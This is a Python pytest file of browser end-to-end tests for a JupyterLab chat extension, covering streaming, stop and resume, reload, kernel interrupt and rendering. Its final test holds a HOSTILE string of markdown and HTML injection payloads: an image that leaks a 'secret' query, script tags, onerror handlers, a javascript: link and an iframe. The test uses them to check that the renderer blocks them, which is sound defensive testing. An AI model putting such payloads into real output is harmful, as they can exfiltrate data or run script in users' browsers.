"""The main job in real JupyterLab in Chromium: ask, watch, stop, resume, save, reopen, reload."""

from __future__ import annotations

import re

import pytest

from .jupyter_lab import Lab, Notebook
from .kernels import KINDS
from .servers import CUT, ModelServerForTests, Pause, Script, answer, chunk, finish, model_server, usage

LOAD = "%load_ext jupyter_ssechat"


def opened(lab: Lab, server: ModelServerForTests | None, *cells: str, kind: str = "7.4") -> Notebook:
    """A notebook whose extension is loaded and whose model server is the test's."""
    setup = LOAD if server is None else f"{LOAD}\n%chat use {server.url}"
    notebook = lab.notebook([setup, *cells], kind=kind)
    notebook.run(0)
    return notebook


def status(notebook: Notebook, index: int) -> str:
    """What the view in a cell says of its state, for programs."""
    return notebook.js(
        "panel.content.widgets[argument].node.querySelector('.ssechat-root')?.dataset.status ?? 'no view'",
        index,
    )


def wait_for_status(notebook: Notebook, index: int, status: str) -> None:
    notebook.wait_until(
        "panel.content.widgets[argument[0]].node.querySelector('.ssechat-root')?.dataset.status === argument[1]",
        [index, status],
    )


@pytest.mark.parametrize("kind", list(KINDS))
def test_the_main_job_from_the_question_to_the_reopened_notebook(lab: Lab, kind: str) -> None:
    thinking, first, middle = Pause(), Pause(), Pause()
    begun = Script(
        [
            chunk(reasoning_content="Let me think"),
            thinking,
            chunk(reasoning_content=" about it."),
            chunk(content="The answer "),
            first,
            chunk(content="begins 开始 🎉"),
            middle,
        ]
    )
    with model_server(begun, answer(" and it ends here.")) as server:
        notebook = opened(lab, server, "%%chat\nWhat is the answer?", kind=kind)
        notebook.start(1)

        notebook.wait_for_text(1, "Let me think")
        assert notebook.is_running(1)
        assert "The answer" not in notebook.shown(1)
        notebook.screenshot(f"thinking-{kind}")

        thinking.end()
        notebook.wait_for_text(1, "The answer")
        first.end()
        notebook.wait_for_text(1, "begins 开始 🎉")
        assert notebook.is_running(1)
        assert not server.left.is_set()
        notebook.screenshot(f"answering-{kind}")

        notebook.press(1, "Stop")
        notebook.wait_for_cell(1, timeout=10)
        assert server.left.wait(10)
        assert "The answer begins 开始 🎉" in notebook.data(1, "text/markdown")[0]
        wait_for_status(notebook, 1, "stopped")
        notebook.wait_until("shown(1).split('begins 开始').length === 2")  # once, and not twice
        notebook.screenshot(f"stopped-{kind}")

        notebook.press(1, "Resume")
        notebook.wait_until(
            "JSON.stringify(cells.get(1).outputs.toJSON()).includes('and it ends here.')", timeout=20
        )
        whole = "The answer begins 开始 🎉 and it ends here."
        assert whole in notebook.data(1, "text/markdown")[0]
        notebook.wait_for_text(1, whole)
        assert status(notebook, 1) == "no view"
        notebook.screenshot(f"finished-{kind}")

        notebook.save()
        notebook.shutdown_kernel()
        assert notebook.errors == []
        assert notebook.strangers() == []
        again = lab.open(notebook.path)
        again.wait_for_text(1, whole)
        assert "model not found" not in again.shown(1)
        again.screenshot(f"reopened-{kind}")


@pytest.mark.parametrize("kind", list(KINDS))
def test_a_page_reloaded_in_mid_answer_goes_on_without_loss_or_repetition(lab: Lab, kind: str) -> None:
    words = [f"word{number} " for number in range(40)]
    pauses = [Pause() for _ in words]
    steps = [step for word, pause in zip(words, pauses, strict=True) for step in (chunk(content=word), pause)]
    with model_server(Script([*steps, finish(), usage(1, 40)])) as server:
        notebook = opened(
            lab, server, "%%chat --bg -o reply\ncount", "print(reply.status, reply.content)", kind=kind
        )
        notebook.run(1)
        for pause in pauses[:10]:
            pause.end()
        notebook.wait_for_text(1, "word10")
        notebook.save()
        notebook.reload()
        for pause in pauses[10:20]:
            pause.end()
        notebook.wait_for_text(1, "word20")
        notebook.screenshot(f"reloaded-{kind}")
        for pause in pauses[20:]:
            pause.end()
        notebook.wait_until("cells.get(1).outputs.toJSON().some((output) => 'text/markdown' in output.data)")
        notebook.wait_for_text(1, "word39")
        numbers = re.findall(r"word(\d+)", notebook.shown(1))
        assert numbers == [str(number) for number in range(40)]
        assert status(notebook, 1) == "no view"
        notebook.run(2)
        assert notebook.shown(2).strip() == "finished " + "".join(words).strip()
        assert notebook.errors == []


def test_the_kernels_interrupt_ends_the_cell_with_one_line_and_keeps_the_text(lab: Lab) -> None:
    pause = Pause()
    with model_server(Script([chunk(content="partial"), pause])) as server:
        notebook = opened(lab, server, "%%chat\nx")
        notebook.start(1)
        notebook.wait_for_text(1, "partial")
        notebook.interrupt()
        notebook.wait_for_cell(1, timeout=10)
        assert server.left.wait(10)
        notebook.wait_for_text(1, "AnswerStopped: stopped by the kernel's interrupt")
        assert "Traceback" not in notebook.shown(1)
        assert "partial" in notebook.data(1, "text/markdown")[0]
        notebook.screenshot("interrupted-kernel")


def test_a_failure_is_one_line_and_the_partial_text_stays(lab: Lab) -> None:
    with model_server(Script([chunk(content="half an answer"), CUT])) as server:
        notebook = opened(lab, server, "%%chat\nx")
        notebook.run(1)
        notebook.wait_for_text(1, "AnswerFailed")
        assert "half an answer" in notebook.data(1, "text/markdown")[0]
        assert notebook.has_button(1, "Resume")
        notebook.screenshot("failed")


def test_a_second_view_of_the_same_answer_shows_the_same(lab: Lab) -> None:
    pause = Pause()
    with model_server(Script([chunk(content="one two"), pause])) as server:
        notebook = opened(lab, server, "%%chat --bg\nx")
        notebook.run(1)
        notebook.wait_for_text(1, "one two")
        notebook.js("(panel.content.activeCellIndex = 1, 0)")
        notebook.do(notebook.page.evaluate("jupyterapp.commands.execute('notebook:create-output-view')"))
        everywhere = "[...document.querySelectorAll('.ssechat-root')].filter(e => {}).length === 2"
        shows = everywhere.format("e.innerText.includes('one two')")
        notebook.do(notebook.page.wait_for_function(shows))
        notebook.press(1, "Stop")
        stopped = everywhere.format("e.dataset.status === 'stopped'")
        notebook.do(notebook.page.wait_for_function(stopped))


PHASE = "panel.content.widgets[1].node.querySelector('.ssechat-root')?.dataset.phase === argument"


def test_the_demo_answers_offline_in_a_fresh_notebook(lab: Lab) -> None:
    notebook = opened(lab, None, "%%chat\nWhat can you show me?")
    notebook.js("(jupyterapp.shell.collapseLeft(), 0)")
    picture = notebook.page.locator(".jp-NotebookPanel-notebook")
    notebook.do(notebook.page.set_viewport_size({"width": 1000, "height": 640}))
    notebook.start(1)
    notebook.wait_until(PHASE, "thinking")
    notebook.wait_for_text(1, "The user writes")
    notebook.photograph(picture, "thinking")
    notebook.wait_until(PHASE, "answering")
    notebook.wait_for_text(1, "Value")
    notebook.photograph(picture, "answering")
    notebook.wait_for_cell(1)
    notebook.wait_for_text(1, "demo model")
    notebook.photograph(picture, "finished")
    assert notebook.strangers() == []
    assert notebook.errors == []


@pytest.mark.parametrize("kind", list(KINDS))
def test_stop_reaches_the_gateway_while_another_cell_blocks_the_kernel(lab: Lab, kind: str) -> None:
    pause, busy = Pause(), "import time\nfor _ in range(400): time.sleep(0.05)"
    with model_server(Script([chunk(content="partial"), pause])) as server:
        notebook = opened(lab, server, "%%chat --bg\nx", busy, kind=kind)
        notebook.run(1)
        notebook.wait_for_text(1, "partial")
        notebook.start(2)
        notebook.wait_until("context.session.kernel.status === 'busy'")
        notebook.press(1, "Stop")
        assert server.left.wait(10)
        assert notebook.is_running(2)
        wait_for_status(notebook, 1, "stopped")
        notebook.interrupt()
        notebook.wait_for_cell(2)
        assert notebook.errors == []


# Of its own accord, with any notebook, now the one and now the other.
NOTEBOOK_7_SAYS = [
    "Cannot read properties of undefined (reading 'schema')",
    "Command 'filebrowser:open-path' not registered.",
]


@pytest.mark.parametrize("kind", list(KINDS))
def test_in_notebook_7_an_answer_streams_stops_goes_on_and_stands_as_markdown(lab: Lab, kind: str) -> None:
    pause = Pause()
    begun = Script([chunk(content="It is **bold** 开始 🎉"), pause])
    with model_server(begun, answer(" and `whole`.")) as server:
        setup = f"{LOAD}\n%chat use {server.url}"
        notebook = lab.notebook([setup, "%%chat\nWhat is it?"], kind=kind, classic=True)
        notebook.run(0)
        notebook.start(1)
        notebook.wait_for_text(1, "It is bold 开始 🎉")
        assert notebook.is_running(1)
        notebook.screenshot(f"notebook-7-answering-{kind}")
        notebook.press(1, "Stop")
        notebook.wait_for_cell(1, timeout=10)
        assert server.left.wait(10)
        wait_for_status(notebook, 1, "stopped")
        notebook.press(1, "Resume")
        notebook.wait_for_text(1, "It is bold 开始 🎉 and whole.")
        notebook.wait_until("panel.content.widgets[1].node.querySelector('.ssechat-root') === null")
        notebook.wait_until("document.querySelectorAll('.jp-OutputArea-output strong').length === 1")
        assert notebook.data(1, "text/markdown") == ["It is **bold** 开始 🎉 and `whole`."]
        notebook.screenshot(f"notebook-7-finished-{kind}")
        assert [error for error in notebook.errors if error not in NOTEBOOK_7_SAYS] == []
        assert notebook.strangers() == []


HOSTILE = """![pixel](http://127.0.0.1:9/leak?q=secret) <img src="http://127.0.0.1:9/leak" onerror="window.owned = 1">
</details><script>window.owned = 1</script> [x](javascript:window.owned=1)

| a | b |
|---|---|
| `x | ![t](http://127.0.0.1:9/leak) |

<iframe src="http://127.0.0.1:9/leak"></iframe> <a href="http://127.0.0.1:9/leak" onclick="window.owned=1">link</a>
"""


def test_a_hostile_answer_fetches_nothing_and_runs_nothing(lab: Lab) -> None:
    hostile = Script([chunk(reasoning_content=HOSTILE), chunk(content=HOSTILE), finish(), usage(1, 1)])
    with model_server(hostile) as server:
        notebook = opened(lab, server, "%%chat\nx")
        notebook.run(1)
        notebook.wait_for_text(1, "javascript")
        notebook.wait_until("document.querySelectorAll('.jp-OutputArea-output details').length === 1")
        area = "panel.content.widgets[1].outputArea.node"
        assert notebook.js(f"{area}.querySelectorAll('img, script, iframe').length") == 0
        assert notebook.js("window.owned ?? 0") == 0
        assert [url for url in notebook.requests if "leak" in url] == []
        notebook.screenshot("hostile")
